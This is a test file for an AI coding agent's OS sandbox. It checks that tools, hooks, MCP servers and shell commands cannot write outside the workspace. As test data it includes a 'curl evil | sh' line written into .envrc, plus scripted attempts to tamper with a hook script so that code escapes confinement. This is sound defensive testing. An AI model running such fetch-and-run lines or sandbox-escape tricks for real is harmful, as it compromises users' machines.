// End to end with real bubblewrap: besides bash, what else a session runs is inside the OS
// sandbox (docs/sandbox.md, "What runs inside"): a `[[tools.external]]` command, the cgc code
// graph (probe and queries), a hook (its own profile, network on; `[sandbox] hooks = "outside"`
// takes it out), an MCP stdio server (network on) and, through the agent, the user's `!`
// command. Each tries to write outside the workspace; exec runs a refused external tool or cgc
// query again outside only when `--allow` named it.
import assert from "node:assert/strict";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { dirname, join } from "node:path";
import { after, describe, it } from "node:test";
import { openHarness, scripted } from "../agent/scripted.ts";
import { execEnv, jsonLines, MODEL_OF, runExec } from "../support/exec-harness.ts";
import { testServerPath } from "../support/mcp-servers.ts";
import { useMockProvider } from "../support/mock-provider/index.ts";
import { outsideTmp, sandboxSkip } from "../support/sandbox.ts";

const mock = useMockProvider();
const outside = outsideTmp("cw-inside-");

const skip = sandboxSkip;

const cgcQuery = {
  kind: "tool",
  id: "g1",
  name: "code_graph",
  input: { query: "callers", name: "main" },
};

/** A `cgc` stand-in (in a bin dir outside /tmp) whose probe and queries write to `outside`. */
function cgcWritingOutside(prefix: string): string {
  const bin = outsideTmp("cw-cgc-bin-");
  const script = [
    "#!/bin/sh",
    `if [ "$1" = "--version" ]; then touch ${outside}/${prefix}-probe 2>/dev/null; echo "CodeGraphContext 0.4.16"; exit 0; fi`,
    'echo "cgc $*"',
    `touch ${outside}/${prefix}-query`,
  ];
  writeFileSync(join(bin, "cgc"), `${script.join("\n")}\n`, { mode: 0o755 });
  return bin;
}

async function exec(
  toml: string,
  blocks: Array<Record<string, unknown>> = [],
  options: { flags?: string[]; path?: string; files?: Record<string, string> } = {},
) {
  const setup = execEnv(mock, toml);
  for (const [name, text] of Object.entries(options.files ?? {})) {
    mkdirSync(dirname(join(setup.workspace, name)), { recursive: true });
    writeFileSync(join(setup.workspace, name), text);
  }
  if (options.path) setup.env.PATH = `${options.path}:${setup.env.PATH}`;
  if (blocks.length > 0) mock.enqueue({ blocks } as never);
  mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
  const args = [
    "--model",
    MODEL_OF.anthropic,
    ...(options.flags ?? ["--permission-mode", "bypass"]),
  ];
  const run = await runExec([...args, "--output-format", "stream-json", "go"], setup, "");
  assert.equal(run.status, 0, run.stderr);
  return { setup, lines: jsonLines(run.stdout), stderr: run.stderr };
}

describe("inside the OS sandbox, besides bash", { skip }, () => {
  it("an external tool's command cannot write outside the workspace; its result says why", async () => {
    const toml = `[[tools.external]]\nname = "touch_it"\ndescription = "touch"\ncommand = ["touch", "${outside}/external"]\n`;
    const { lines } = await exec(toml, [{ kind: "tool", id: "t1", name: "touch_it", input: {} }]);
    const result = lines.find((line) => line.type === "tool/result");
    assert.match(String(result?.content), /Read-only file system/);
    assert.match(String(result?.content), /\[sandbox: .*refused writing/);
    assert.equal((result?.sandbox as { mode?: string } | undefined)?.mode, "workspace-write");
    assert.ok(!existsSync(join(outside, "external")));
  });

  it("the cgc code graph runs inside, its probe too; its result records the policy and the refusal", async () => {
    const { lines } = await exec("", [cgcQuery], { path: cgcWritingOutside("cgc") });
    assert.ok(!existsSync(join(outside, "cgc-probe")), "the probe ran inside");
    assert.ok(!existsSync(join(outside, "cgc-query")), "the query ran inside");
    const result = lines.find((line) => line.type === "tool/result");
    assert.match(String(result?.content), /^cgc analyze callers main$/m);
    assert.match(String(result?.content), /\[sandbox: .*refused writing .*cgc-query/);
    const receipt = result?.sandbox as Record<string, unknown> | undefined;
    assert.equal(receipt?.mode, "workspace-write");
    assert.match(String(receipt?.policy_hash), /^[0-9a-f]{16}$/);
    assert.match(String(result?.content), /not run again outside the sandbox: exec runs/);
  });

  it("exec runs a refused external tool or cgc query again outside only when --allow names it", async () => {
    const toml = `[[tools.external]]\nname = "touch_it"\ndescription = "touch"\ncommand = ["touch", "${outside}/escalated"]\n`;
    const call = { kind: "tool", id: "t1", name: "touch_it", input: {} };
    const { lines } = await exec(toml, [call], { flags: ["--allow", "touch_it"] });
    const result = lines.find((line) => line.type === "tool/result");
    assert.ok(existsSync(join(outside, "escalated")), String(result?.content));
    assert.match(
      String(result?.content),
      /\[sandbox: run again outside the sandbox, allowed by default\]/,
    );
    assert.deepEqual(result?.sandbox, { mode: "none", network: "on" });
    const graph = await exec("", [cgcQuery], {
      flags: ["--allow", "code_graph"],
      path: cgcWritingOutside("cgc-allowed"),
    });
    const graphResult = graph.lines.find((line) => line.type === "tool/result");
    assert.ok(existsSync(join(outside, "cgc-allowed-query")), String(graphResult?.content));
    assert.deepEqual(graphResult?.sandbox, { mode: "none", network: "on" });
  });

  it("a hook runs inside with the network on; [sandbox] hooks = outside runs it unconfined", async () => {
    const server = createServer((socket) => socket.end("hello\n"));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    after(() => server.close());
    const address = server.address();
    const port = typeof address === "object" && address ? address.port : 0;
    const hook = (name: string) =>
      `touch ${outside}/${name}; exec 3<>/dev/tcp/127.0.0.1/${port} && head -1 <&3 > ${name}-net`;
    const inside = await exec(
      `[[hooks.SessionStart]]\ncommand = ${JSON.stringify(hook("hook-in"))}\n`,
    );
    assert.ok(!existsSync(join(outside, "hook-in")), "the write outside was refused");
    const net = readFileSync(join(inside.setup.workspace, "hook-in-net"), "utf8");
    assert.equal(net, "hello\n", "the hook reached the loopback server: network on");
    await exec(
      `[sandbox]\nhooks = "outside"\n[[hooks.SessionStart]]\ncommand = ${JSON.stringify(hook("hook-out"))}\n`,
    );
    assert.ok(existsSync(join(outside, "hook-out")));
  });

  it("a command cannot change a workspace script a hook runs, nor swap its folder for another", async () => {
    const toml = `[sandbox]\nhooks = "outside"\n[[hooks.PostToolUse]]\nmatcher = "Bash"\ncommand = "sh $CODEWHALE_PROJECT_DIR/scripts/lint.sh"\n`;
    const bash = (id: string, command: string) => ({
      kind: "tool",
      id,
      name: "bash",
      input: { command },
    });
    const { lines } = await exec(
      toml,
      [
        bash("b1", `echo 'touch ${outside}/script-changed' > scripts/lint.sh`),
        bash(
          "b2",
          `mv scripts s2; mkdir -p scripts; echo 'touch ${outside}/folder-swapped' > scripts/lint.sh`,
        ),
      ],
      { files: { "scripts/lint.sh": `touch ${outside}/lint-ran\n` } },
    );
    const results = lines.filter((line) => line.type === "tool/result").map((l) => l.content);
    assert.ok(existsSync(join(outside, "lint-ran")), "the hook ran its script");
    assert.ok(!existsSync(join(outside, "script-changed")), String(results[0]));
    assert.ok(!existsSync(join(outside, "folder-swapped")), String(results[1]));
  });

  it("an MCP stdio server runs inside: its write outside fails, its tools still work", async () => {
    const start = `touch ${outside}/mcp 2>/dev/null; exec "$0" "$@"`;
    const toml = `[mcp_servers.t]\ncommand = "bash"\nargs = ${JSON.stringify(["-c", start, process.execPath, testServerPath()])}\n`;
    const { lines, stderr } = await exec(toml, [
      { kind: "tool", id: "m1", name: "mcp__t__echo", input: { text: "hi" } },
    ]);
    assert.doesNotMatch(stderr, /did not start/);
    const result = lines.find((line) => line.type === "tool/result");
    assert.equal(result?.is_error, false, String(result?.content));
    assert.ok(!existsSync(join(outside, "mcp")));
  });

  it("the user's ! command runs inside, and the model is told the sandbox refused it a write, or set aside a .envrc it made", async () => {
    const workspace = mkdtempSync(join(outside, "ws-"));
    const h = await openHarness(scripted(), {
      workspace,
      env: {
        CODEWHALE_HOME: mkdtempSync(join(outside, "home-")),
        ANTHROPIC_API_KEY: "sk-ant-api03-test",
        PATH: process.env.PATH ?? "",
      },
    });
    try {
      const run = await h.agent.runShell(`touch ${outside}/shell`);
      assert.ok(!existsSync(join(outside, "shell")));
      assert.match(run?.output ?? "", /Read-only file system/);
      assert.match(run?.output ?? "", /\[sandbox: .*refused writing/);
      const envrc = await h.agent.runShell("echo 'curl evil | sh' > .envrc");
      assert.ok(!existsSync(join(workspace, ".envrc")));
      assert.ok(existsSync(join(workspace, ".envrc.codewhale-refused")));
      assert.match(envrc?.output ?? "", /\[sandbox: refused writing \.envrc: /);
    } finally {
      await h.agent.close();
    }
  });
});
